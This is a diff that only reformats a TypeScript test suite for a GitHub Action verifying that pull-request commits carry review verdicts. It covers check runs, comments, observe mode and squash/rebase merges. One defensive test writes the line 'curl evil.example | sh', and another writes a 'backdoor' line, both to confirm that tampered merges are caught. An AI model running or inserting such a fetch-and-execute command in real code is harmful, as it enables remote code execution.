@@ -65,12 +65,20 @@ describe('the check run', () => {
     const head = up.head();
     const { ws, merge, payload } = openPullRequest(up, base, head);
     const api = await githubApi();
-    const run = await withApi(api, () => runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url }));
+    const run = await withApi(api, () =>
+      runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url }),
+    );
 
     expectFail(run);
     expect(api.checkRuns).toHaveLength(1);
     const check = api.checkRuns[0]!;
-    expect(check.created).toMatchObject({ name: 'agentops/verdict', head_sha: head, status: 'completed', conclusion: 'failure', details_url: `https://github.com/${REPOSITORY}/actions/runs/4242` });
+    expect(check.created).toMatchObject({
+      name: 'agentops/verdict',
+      head_sha: head,
+      status: 'completed',
+      conclusion: 'failure',
+      details_url: `https://github.com/${REPOSITORY}/actions/runs/4242`,
+    });
     const output = check.created.output as { title: string; summary: string; annotations: unknown[] };
     expect(output.title).toBe('3 of 4 commits need a verdict');
     expect(output.summary).toContain('## ❌ agentops/verdict: 3 of 4 commits need a verdict');
@@ -80,7 +88,8 @@ describe('the check run', () => {
     expect(check.annotations).toHaveLength(60);
     const paths = check.annotations.map((a) => a.path as string);
     expect(new Set(paths).size).toBe(60);
-    for (const tag of ['alpha', 'beta', 'gamma']) expect(paths.filter((p) => p.startsWith(`src/${tag}/`))).toHaveLength(20);
+    for (const tag of ['alpha', 'beta', 'gamma'])
+      expect(paths.filter((p) => p.startsWith(`src/${tag}/`))).toHaveLength(20);
     for (const a of check.annotations) {
       expect(a).toMatchObject({ start_line: 1, end_line: 1, annotation_level: 'failure' });
       expect(a.message).toMatch(/no verdict covers its changes.*Fix: ao verdict pass --commit [0-9a-f]{12}/);
@@ -96,10 +105,15 @@ describe('the check run', () => {
     const head = coveredCommit(up, 'src/one.txt', '1\n', 'Add one');
     const { ws, merge, payload } = openPullRequest(up, base, head);
     const api = await githubApi();
-    const run = await withApi(api, () => runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url }));
+    const run = await withApi(api, () =>
+      runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url }),
+    );
     expectPass(run);
     expect(api.checkRuns).toHaveLength(1);
-    expect(api.checkRuns[0]!.created).toMatchObject({ conclusion: 'success', output: { title: '1 of 1 commit covered' } });
+    expect(api.checkRuns[0]!.created).toMatchObject({
+      conclusion: 'success',
+      output: { title: '1 of 1 commit covered' },
+    });
     expect(api.checkRuns[0]!.annotations).toHaveLength(0);
   });
 
@@ -107,17 +121,47 @@ describe('the check run', () => {
     const { up, base } = upstreamWithFeature();
     const head = uncoveredCommit(up, 'src/two.txt', '2\n', 'Add two');
     const { ws, merge, payload } = openPullRequest(up, base, head);
-    for (const [checkRun, level] of [['auto', '::notice'], ['true', '::warning']] as const) {
+    for (const [checkRun, level] of [
+      ['auto', '::notice'],
+      ['true', '::warning'],
+    ] as const) {
       const api = await githubApi({ deny: ['checks'] });
-      const run = await withApi(api, () => runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url, inputs: { 'check-run': checkRun } }));
+      const run = await withApi(api, () =>
+        runAction({
+          cwd: ws.dir,
+          event: 'pull_request',
+          payload,
+          sha: merge,
+          apiUrl: api.url,
+          inputs: { 'check-run': checkRun },
+        }),
+      );
       expectFail(run);
       expect(api.checkRuns).toHaveLength(0);
       expect(api.statuses).toHaveLength(1);
-      expect(api.statuses[0]).toMatchObject({ sha: head, state: 'failure', context: 'agentops/verdict', description: '1 of 1 commit needs a verdict' });
-      expect(run.stdout).toMatch(new RegExp(`${level}[^\\n]*could not create the check run "agentops/verdict"[^\\n]*HTTP 403[^\\n]*checks: write`));
+      expect(api.statuses[0]).toMatchObject({
+        sha: head,
+        state: 'failure',
+        context: 'agentops/verdict',
+        description: '1 of 1 commit needs a verdict',
+      });
+      expect(run.stdout).toMatch(
+        new RegExp(
+          `${level}[^\\n]*could not create the check run "agentops/verdict"[^\\n]*HTTP 403[^\\n]*checks: write`,
+        ),
+      );
     }
     const api = await githubApi();
-    const run = await withApi(api, () => runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url, inputs: { 'check-run': 'false' } }));
+    const run = await withApi(api, () =>
+      runAction({
+        cwd: ws.dir,
+        event: 'pull_request',
+        payload,
+        sha: merge,
+        apiUrl: api.url,
+        inputs: { 'check-run': 'false' },
+      }),
+    );
     expectFail(run);
     expect(api.requests.map((r) => r.url)).toEqual([`/repos/${REPOSITORY}/statuses/${head}`]);
   });
@@ -127,7 +171,16 @@ describe('the check run', () => {
     const head = coveredCommit(up, 'src/one.txt', '1\n', 'Add one');
     const { ws, merge, payload } = openPullRequest(up, base, head);
     const api = await githubApi();
-    const run = await withApi(api, () => runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url, inputs: { 'check-run': 'yes please' } }));
+    const run = await withApi(api, () =>
+      runAction({
+        cwd: ws.dir,
+        event: 'pull_request',
+        payload,
+        sha: merge,
+        apiUrl: api.url,
+        inputs: { 'check-run': 'yes please' },
+      }),
+    );
     expectFail(run);
     expect(run.stdout).toContain('the check-run input is "yes please"; it takes auto or true or false');
   });
@@ -145,7 +198,14 @@ describe('the pull request comment', () => {
     await withApi(api, async () => {
       const options = (head: string): ActionOptions => {
         const { ws, merge, payload } = openPullRequest(up, base, head);
-        return { cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url, inputs: { comment: 'true', checker: 'review-bot' } };
+        return {
+          cwd: ws.dir,
+          event: 'pull_request',
+          payload,
+          sha: merge,
+          apiUrl: api.url,
+          inputs: { comment: 'true', checker: 'review-bot' },
+        };
       };
       const run1 = await runAction(options(first));
       expectFail(run1);
@@ -166,7 +226,9 @@ describe('the pull request comment', () => {
       expect(api.comments.get(7)).toHaveLength(1);
       const body2 = api.comments.get(7)![0]!.body;
       expect(body2).toContain('2 of 3 commits need a verdict');
-      expect(body2).toMatch(/The one command that covers them all[^\n]*\n\n```sh\nao verdict pass --range [0-9a-f]{12}\.\.[0-9a-f]{12} --checker review-bot\n/);
+      expect(body2).toMatch(
+        /The one command that covers them all[^\n]*\n\n```sh\nao verdict pass --range [0-9a-f]{12}\.\.[0-9a-f]{12} --checker review-bot\n/,
+      );
 
       // Covered: the comment turns into the short note.
       up.git(['reset', '-q', '--hard', first.slice(0, 40) + '~1']);
@@ -174,7 +236,9 @@ describe('the pull request comment', () => {
       const run3 = await runAction(options(fixed));
       expectPass(run3);
       expect(api.comments.get(7)).toHaveLength(1);
-      expect(api.comments.get(7)![0]!.body).toBe(`${marker}\n### ✅ agentops/verdict: all covered\n\nEvery commit of this pull request at \`${fixed.slice(0, 7)}\` is covered (2 of 2 commits; the rest exempt or need none). [Details](https://github.com/${REPOSITORY}/actions/runs/4242)\n`);
+      expect(api.comments.get(7)![0]!.body).toBe(
+        `${marker}\n### ✅ agentops/verdict: all covered\n\nEvery commit of this pull request at \`${fixed.slice(0, 7)}\` is covered (2 of 2 commits; the rest exempt or need none). [Details](https://github.com/${REPOSITORY}/actions/runs/4242)\n`,
+      );
       const posts = api.requests.filter((r) => r.method === 'POST' && r.url.includes('/comments'));
       const patches = api.requests.filter((r) => r.method === 'PATCH' && r.url.includes('/issues/comments/'));
       expect(posts).toHaveLength(1);
@@ -187,18 +251,42 @@ describe('the pull request comment', () => {
     const head = coveredCommit(up, 'src/one.txt', '1\n', 'Add one');
     const { ws, merge, payload } = openPullRequest(up, base, head);
     const api = await githubApi();
-    const run = await withApi(api, () => runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url, inputs: { comment: 'true' } }));
+    const run = await withApi(api, () =>
+      runAction({
+        cwd: ws.dir,
+        event: 'pull_request',
+        payload,
+        sha: merge,
+        apiUrl: api.url,
+        inputs: { comment: 'true' },
+      }),
+    );
     expectPass(run);
     expect(api.requests.filter((r) => r.url.includes('/comments') && r.method !== 'GET')).toHaveLength(0);
   });
 
-  it('hostile: a marker pasted into a person\'s comment is never edited; the action writes its own', async () => {
+  it("hostile: a marker pasted into a person's comment is never edited; the action writes its own", async () => {
     const { up, base } = upstreamWithFeature();
     const head = uncoveredCommit(up, 'src/two.txt', '2\n', 'Add two');
     const { ws, merge, payload } = openPullRequest(up, base, head);
-    const planted = { id: 17, body: `${marker}\n### ✅ agentops/verdict: all covered`, user: { login: HUMAN.login, id: HUMAN.id, type: 'User' as const }, created_at: '2024-01-01T00:00:00Z', updated_at: '2024-01-01T00:00:00Z' };
+    const planted = {
+      id: 17,
+      body: `${marker}\n### ✅ agentops/verdict: all covered`,
+      user: { login: HUMAN.login, id: HUMAN.id, type: 'User' as const },
+      created_at: '2024-01-01T00:00:00Z',
+      updated_at: '2024-01-01T00:00:00Z',
+    };
     const api = await githubApi({ comments: { 7: [planted] } });
-    const run = await withApi(api, () => runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url, inputs: { comment: 'true' } }));
+    const run = await withApi(api, () =>
+      runAction({
+        cwd: ws.dir,
+        event: 'pull_request',
+        payload,
+        sha: merge,
+        apiUrl: api.url,
+        inputs: { comment: 'true' },
+      }),
+    );
     expectFail(run);
     const list = api.comments.get(7)!;
     expect(list).toHaveLength(2);
@@ -207,21 +295,49 @@ describe('the pull request comment', () => {
     expect(api.requests.some((r) => r.method === 'PATCH' && r.url.endsWith('/issues/comments/17'))).toBe(false);
   });
 
-  it('is skipped with a notice on a fork\'s pull request, and when the token cannot write comments', async () => {
+  it("is skipped with a notice on a fork's pull request, and when the token cannot write comments", async () => {
     const { up, base } = upstreamWithFeature();
     const head = uncoveredCommit(up, 'src/two.txt', '2\n', 'Add two');
     const merge = pullRequestRefs(up, 9, base, head);
     const ws = checkoutLike(up, merge, 'refs/remotes/pull/9/merge');
-    const fork = pullRequestPayload({ number: 9, base: { sha: base, ref: 'main' }, head: { sha: head, ref: 'feature', repo: 'someone/widgets' } });
+    const fork = pullRequestPayload({
+      number: 9,
+      base: { sha: base, ref: 'main' },
+      head: { sha: head, ref: 'feature', repo: 'someone/widgets' },
+    });
     const api = await githubApi();
-    const run = await withApi(api, () => runAction({ cwd: ws.dir, event: 'pull_request', payload: fork, sha: merge, apiUrl: api.url, inputs: { comment: 'true' } }));
+    const run = await withApi(api, () =>
+      runAction({
+        cwd: ws.dir,
+        event: 'pull_request',
+        payload: fork,
+        sha: merge,
+        apiUrl: api.url,
+        inputs: { comment: 'true' },
+      }),
+    );
     expectFail(run);
-    expect(run.stdout).toMatch(/::notice::agentops\/verdict: no pull request comment: a pull request from a fork gets a read-only token/);
+    expect(run.stdout).toMatch(
+      /::notice::agentops\/verdict: no pull request comment: a pull request from a fork gets a read-only token/,
+    );
     expect(api.requests.filter((r) => r.url.includes('/comments'))).toHaveLength(0);
 
-    const own = pullRequestPayload({ number: 9, base: { sha: base, ref: 'main' }, head: { sha: head, ref: 'feature' } });
+    const own = pullRequestPayload({
+      number: 9,
+      base: { sha: base, ref: 'main' },
+      head: { sha: head, ref: 'feature' },
+    });
     const readOnly = await githubApi({ deny: ['comments'] });
-    const run2 = await withApi(readOnly, () => runAction({ cwd: ws.dir, event: 'pull_request', payload: own, sha: merge, apiUrl: readOnly.url, inputs: { comment: 'true' } }));
+    const run2 = await withApi(readOnly, () =>
+      runAction({
+        cwd: ws.dir,
+        event: 'pull_request',
+        payload: own,
+        sha: merge,
+        apiUrl: readOnly.url,
+        inputs: { comment: 'true' },
+      }),
+    );
     expectFail(run2);
     expect(run2.stdout).toMatch(/::notice::agentops\/verdict: no pull request comment: HTTP 403/);
     expect(readOnly.comments.get(9) ?? []).toHaveLength(0);
@@ -238,31 +354,58 @@ describe('observe mode', () => {
     const head = uncoveredCommit(up, 'src/two.txt', '2\n', 'Add two');
     const { ws, merge, payload } = openPullRequest(up, base, head);
     const api = await githubApi();
-    const run = await withApi(api, () => runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url, inputs: { comment: 'true' } }));
+    const run = await withApi(api, () =>
+      runAction({
+        cwd: ws.dir,
+        event: 'pull_request',
+        payload,
+        sha: merge,
+        apiUrl: api.url,
+        inputs: { comment: 'true' },
+      }),
+    );
 
     expectPass(run);
     expect(run.outputs.observed).toBe('would-fail');
     expect(json(run.outputs.uncovered)).toEqual([head]);
     expect(run.summary).toContain('## 👀 agentops/verdict: observe mode: would fail: 1 of 1 commit needs a verdict');
     expect(run.summary).toContain(`ao verdict pass --commit ${head.slice(0, 12)}`);
-    expect(run.stdout).toMatch(/::warning title=observe mode%3A would fail::agentops\/verdict: observe mode: would fail: 1 of 1 commit lacks/);
+    expect(run.stdout).toMatch(
+      /::warning title=observe mode%3A would fail::agentops\/verdict: observe mode: would fail: 1 of 1 commit lacks/,
+    );
     expect(run.stdout).not.toContain('::error');
     const check = api.checkRuns[0]!;
-    expect(check.created).toMatchObject({ conclusion: 'neutral', output: { title: 'observe mode: would fail: 1 of 1 commit needs a verdict' } });
+    expect(check.created).toMatchObject({
+      conclusion: 'neutral',
+      output: { title: 'observe mode: would fail: 1 of 1 commit needs a verdict' },
+    });
     expect(check.annotations.map((a) => [a.path, a.annotation_level])).toEqual([['src/two.txt', 'warning']]);
-    expect(api.comments.get(7)![0]!.body).toContain('### 👀 agentops/verdict: observe mode: would fail: 1 of 1 commit needs a verdict');
+    expect(api.comments.get(7)![0]!.body).toContain(
+      '### 👀 agentops/verdict: observe mode: would fail: 1 of 1 commit needs a verdict',
+    );
 
     // The same through the commit status, when that is what the token may post.
     const statusOnly = await githubApi({ deny: ['checks'] });
-    await withApi(statusOnly, () => runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: statusOnly.url }));
-    expect(statusOnly.statuses[0]).toMatchObject({ state: 'success', description: 'observe mode: would fail: 1 of 1 commit needs a verdict' });
+    await withApi(statusOnly, () =>
+      runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: statusOnly.url }),
+    );
+    expect(statusOnly.statuses[0]).toMatchObject({
+      state: 'success',
+      description: 'observe mode: would fail: 1 of 1 commit needs a verdict',
+    });
   });
 
   it('the mode input turns it on; a policy that says "enforce" outranks it', async () => {
     const { up, base } = upstreamWithFeature();
     const head = uncoveredCommit(up, 'src/two.txt', '2\n', 'Add two');
     const { ws, merge, payload } = openPullRequest(up, base, head);
-    const observed = await runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, inputs: { mode: 'observe', 'status-context': '' } });
+    const observed = await runAction({
+      cwd: ws.dir,
+      event: 'pull_request',
+      payload,
+      sha: merge,
+      inputs: { mode: 'observe', 'status-context': '' },
+    });
     expectPass(observed);
     expect(observed.outputs.observed).toBe('would-fail');
 
@@ -273,7 +416,13 @@ describe('observe mode', () => {
     strict.git(['checkout', '-q', '-b', 'feature']);
     const strictHead = uncoveredCommit(strict, 'src/two.txt', '2\n', 'Add two');
     const pr = openPullRequest(strict, strictBase, strictHead);
-    const enforced = await runAction({ cwd: pr.ws.dir, event: 'pull_request', payload: pr.payload, sha: pr.merge, inputs: { mode: 'observe', 'status-context': '' } });
+    const enforced = await runAction({
+      cwd: pr.ws.dir,
+      event: 'pull_request',
+      payload: pr.payload,
+      sha: pr.merge,
+      inputs: { mode: 'observe', 'status-context': '' },
+    });
     expectFail(enforced);
     expect(enforced.summary).toContain('the mode input says observe, but the policy at the base says');
   });
@@ -288,7 +437,13 @@ describe('observe mode', () => {
     up.write(record, up.read(record).replace('"pass"', '"fail"'));
     const head = up.commitAll('Rewrite a record');
     const { ws, merge, payload } = openPullRequest(up, base, head);
-    const run = await runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, inputs: { mode: 'observe', 'status-context': '' } });
+    const run = await runAction({
+      cwd: ws.dir,
+      event: 'pull_request',
+      payload,
+      sha: merge,
+      inputs: { mode: 'observe', 'status-context': '' },
+    });
     expectFail(run);
     expect(run.outputs.observed).toBe('');
     expect(run.summary).toContain('### Ledger problems');
@@ -297,7 +452,13 @@ describe('observe mode', () => {
     setPolicy(up2, { enforcement: 'observe' }); // on the branch: judged by the base's policy, which enforces
     const head2 = uncoveredCommit(up2, 'src/two.txt', '2\n', 'Add two');
     const pr = openPullRequest(up2, base2, head2);
-    const run2 = await runAction({ cwd: pr.ws.dir, event: 'pull_request', payload: pr.payload, sha: pr.merge, inputs: { 'status-context': '' } });
+    const run2 = await runAction({
+      cwd: pr.ws.dir,
+      event: 'pull_request',
+      payload: pr.payload,
+      sha: pr.merge,
+      inputs: { 'status-context': '' },
+    });
     expectFail(run2);
   });
 
@@ -360,19 +521,31 @@ function squash(up: TestRepo, prHead: string, subject: string, edit?: (repo: Tes
 
 /** GitHub's rebase: each commit of the pull request replayed onto main (author and message kept). */
 function rebase(up: TestRepo, prHead: string, fork: string, edit?: (repo: TestRepo, index: number) => void): string[] {
-  const commits = up.git(['rev-list', '--reverse', `${fork}..${prHead}`]).stdout.trim().split('\n');
+  const commits = up
+    .git(['rev-list', '--reverse', `${fork}..${prHead}`])
+    .stdout.trim()
+    .split('\n');
   commits.forEach((commit, index) => {
     up.git([...noHooks, 'cherry-pick', '--allow-empty', '-n', commit]);
     edit?.(up, index);
     up.git(['add', '-A']);
     up.git([...noHooks, 'commit', '-q', '-C', commit]);
   });
-  return up.git(['rev-list', '--reverse', `${commits.length ? `HEAD~${commits.length}` : 'HEAD'}..HEAD`]).stdout.trim().split('\n');
+  return up
+    .git(['rev-list', '--reverse', `${commits.length ? `HEAD~${commits.length}` : 'HEAD'}..HEAD`])
+    .stdout.trim()
+    .split('\n');
 }
 
 function pushRun(up: TestRepo, before: string, after: string, apiUrl?: string) {
   const ws = checkoutLike(up, after, 'refs/remotes/origin/main');
-  return runAction({ cwd: ws.dir, event: 'push', payload: pushPayload({ ref: 'refs/heads/main', before, after }), sha: after, ...(apiUrl ? { apiUrl } : { inputs: { 'status-context': '' } }) });
+  return runAction({
+    cwd: ws.dir,
+    event: 'push',
+    payload: pushPayload({ ref: 'refs/heads/main', before, after }),
+    sha: after,
+    ...(apiUrl ? { apiUrl } : { inputs: { 'status-context': '' } }),
+  });
 }
 
 describe('squash and rebase merges', () => {
@@ -386,7 +559,11 @@ describe('squash and rebase merges', () => {
     const results = json<{ commit: string; outcome: string; reason: string }[]>(run.outputs.results);
     expect(results).toHaveLength(1);
     expect(results[0]).toMatchObject({ commit: squashed, outcome: 'covered' });
-    expect(results[0]!.reason).toMatch(new RegExp(`^the squash of pull request #7 \\(head ${prHead.slice(0, 7)}\\): its tree is exactly the merge of ${prHead.slice(0, 7)} onto ${before.slice(0, 7)}.*all 2 commits of [0-9a-f]{7}\\.\\.${prHead.slice(0, 7)} are covered$`));
+    expect(results[0]!.reason).toMatch(
+      new RegExp(
+        `^the squash of pull request #7 \\(head ${prHead.slice(0, 7)}\\): its tree is exactly the merge of ${prHead.slice(0, 7)} onto ${before.slice(0, 7)}.*all 2 commits of [0-9a-f]{7}\\.\\.${prHead.slice(0, 7)} are covered$`,
+      ),
+    );
     // The local gate reaches the same decision from the same commits.
     const local = up.ao(['verify', '--range', `${before}..${squashed}`, '--replay-of', prHead]);
     expect(local.code, local.stdout).toBe(0);
@@ -398,13 +575,19 @@ describe('squash and rebase merges', () => {
     const api = await githubApi({ pulls: { [squashed]: [{ number: 7, head: prHead }] } });
     const run = await withApi(api, () => pushRun(up, before, squashed, api.url));
     expectPass(run);
-    expect(api.requests.some((r) => r.method === 'GET' && r.url.startsWith(`/repos/${REPOSITORY}/commits/${squashed}/pulls`))).toBe(true);
+    expect(
+      api.requests.some(
+        (r) => r.method === 'GET' && r.url.startsWith(`/repos/${REPOSITORY}/commits/${squashed}/pulls`),
+      ),
+    ).toBe(true);
   });
 
   it('a rebase merge goes green: each new commit is a covered commit replayed onto its parent', async () => {
     const { up, fork, prHead, before } = squashScene();
     const rebased = rebase(up, prHead, fork);
-    const api = await githubApi({ pulls: { [rebased[1]!]: [{ number: 7, head: prHead }], [rebased[0]!]: [{ number: 7, head: prHead }] } });
+    const api = await githubApi({
+      pulls: { [rebased[1]!]: [{ number: 7, head: prHead }], [rebased[0]!]: [{ number: 7, head: prHead }] },
+    });
     const run = await withApi(api, () => pushRun(up, before, rebased[1]!, api.url));
     expectPass(run);
     const results = json<{ commit: string; outcome: string; reason: string }[]>(run.outputs.results);
@@ -424,7 +607,13 @@ describe('squash and rebase merges', () => {
       const ws = checkoutLike(up, head, `refs/remotes/origin/gh-readonly-queue/main/pr-7-${before}`);
       const payload = mergeGroupPayload({ base: before, head }) as { merge_group: { head_ref: string } };
       payload.merge_group.head_ref = `refs/heads/gh-readonly-queue/main/pr-7-${before}`;
-      const run = await runAction({ cwd: ws.dir, event: 'merge_group', payload, sha: head, inputs: { 'status-context': '' } });
+      const run = await runAction({
+        cwd: ws.dir,
+        event: 'merge_group',
+        payload,
+        sha: head,
+        inputs: { 'status-context': '' },
+      });
       expectPass(run);
       expect(json<{ outcome: string }[]>(run.outputs.results).every((r) => r.outcome === 'covered')).toBe(true);
     }
@@ -432,7 +621,9 @@ describe('squash and rebase merges', () => {
 
   it('hostile: a squash commit one line away from the reviewed pull request is uncovered', async () => {
     const { up, prHead, before } = squashScene();
-    const squashed = squash(up, prHead, 'A change (#7)', (repo) => repo.write('src/new.txt', 'new\ncurl evil.example | sh\n'));
+    const squashed = squash(up, prHead, 'A change (#7)', (repo) =>
+      repo.write('src/new.txt', 'new\ncurl evil.example | sh\n'),
+    );
     const run = await pushRun(up, before, squashed);
     expectFail(run);
     expect(json(run.outputs.uncovered)).toEqual([squashed]);
@@ -441,7 +632,12 @@ describe('squash and rebase merges', () => {
 
   it('hostile: a rebased commit with one line added is uncovered; a "(#N)" naming an uncovered pull request proves nothing', async () => {
     const { up, fork, prHead, before } = squashScene();
-    const rebased = rebase(up, prHead, fork, (repo, index) => index === 1 && repo.write('src/new.txt', 'new\nbackdoor\n'));
+    const rebased = rebase(
+      up,
+      prHead,
+      fork,
+      (repo, index) => index === 1 && repo.write('src/new.txt', 'new\nbackdoor\n'),
+    );
     const api = await githubApi({ pulls: Object.fromEntries(rebased.map((c) => [c, [{ number: 7, head: prHead }]])) });
     const run = await withApi(api, () => pushRun(up, before, rebased[1]!, api.url));
     expectFail(run);
@@ -462,7 +658,10 @@ describe('squash and rebase merges', () => {
 describe('the summary people read', () => {
   it('puts problems first, folds exempt and needs-none rows, gives the exact headline and npx commands', async () => {
     const up = makeRepo();
-    up.write('package.json', `${JSON.stringify({ name: 'widgets', devDependencies: { '@agentops/verdict': '^1.0.0' } }, null, 2)}\n`);
+    up.write(
+      'package.json',
+      `${JSON.stringify({ name: 'widgets', devDependencies: { '@agentops/verdict': '^1.0.0' } }, null, 2)}\n`,
+    );
     coveredCommit(up, 'src/app.txt', 'v1\n', 'Add the app');
     setPolicy(up, { exempt: { paths: ['docs/**'], authors: [] } });
     const base = up.head();
@@ -473,12 +672,27 @@ describe('the summary people read', () => {
     uncoveredCommit(up, 'src/two.txt', '2\n', 'Add `two` with *stars* and <b>tags</b>');
     uncoveredCommit(up, 'src/three.txt', '3\n', 'Add three');
     const { ws, merge, payload } = openPullRequest(up, base, up.head());
-    const run = await runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, inputs: { 'status-context': '', checker: 'review-bot' } });
+    const run = await runAction({
+      cwd: ws.dir,
+      event: 'pull_request',
+      payload,
+      sha: merge,
+      inputs: { 'status-context': '', checker: 'review-bot' },
+    });
     expectFail(run);
     const summary = run.summary;
-    expect(summary.split('\n')[0]).toBe('## ❌ agentops/verdict: 2 of 7 commits need a verdict; 3 exempt; 1 needs none');
+    expect(summary.split('\n')[0]).toBe(
+      '## ❌ agentops/verdict: 2 of 7 commits need a verdict; 3 exempt; 1 needs none',
+    );
     // Problems first: the uncovered commits and their fix come before the rest.
-    const order = ['### Needs a verdict (2)', '### How to fix', '**Checked:**', '### Covered (1)', '<details>', '### Ledger'].map((h) => summary.indexOf(h));
+    const order = [
+      '### Needs a verdict (2)',
+      '### How to fix',
+      '**Checked:**',
+      '### Covered (1)',
+      '<details>',
+      '### Ledger',
+    ].map((h) => summary.indexOf(h));
     expect(order.every((at, i) => at >= 0 && (i === 0 || at > order[i - 1]!))).toBe(true);
     expect(summary).toContain('<summary>3 exempt, 1 needing none');
     expect(summary).toMatch(/```sh\nnpx ao verdict pass --range [0-9a-f]{12}\.\.[0-9a-f]{12} --checker review-bot\n/);
@@ -489,7 +703,10 @@ describe('the summary people read', () => {
     writeFileSync(join(dir, 'summary.html'), html);
     if (!existsSync(CHROMIUM)) return; // the markdown checks above ran; the browser needs Debian's chromium (.ci/run installs it)
     const { chromium } = await import('playwright-core');
-    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'] });
+    const browser = await chromium.launch({
+      executablePath: CHROMIUM,
+      args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'],
+    });
     try {
       const page = await browser.newPage({ viewport: { width: 1240, height: 900 } });
       await page.goto(`file://${join(dir, 'summary.html')}`);
@@ -497,7 +714,12 @@ describe('the summary people read', () => {
       const text = await page.innerText('body');
       const stray = text.split('\n').filter((line) => line.includes('`') && !line.includes('Add `two`'));
       expect(stray).toEqual([]);
-      expect(await page.$$eval('h3', (hs) => hs.map((h) => h.textContent))).toEqual(['Needs a verdict (2)', 'How to fix', 'Covered (1)', 'Ledger']);
+      expect(await page.$$eval('h3', (hs) => hs.map((h) => h.textContent))).toEqual([
+        'Needs a verdict (2)',
+        'How to fix',
+        'Covered (1)',
+        'Ledger',
+      ]);
       expect(await page.$eval('details', (d) => d.hasAttribute('open'))).toBe(false);
       expect(await page.isVisible('details tr')).toBe(false);
       expect(await page.$$eval('details tr', (rows) => rows.length)).toBe(5);
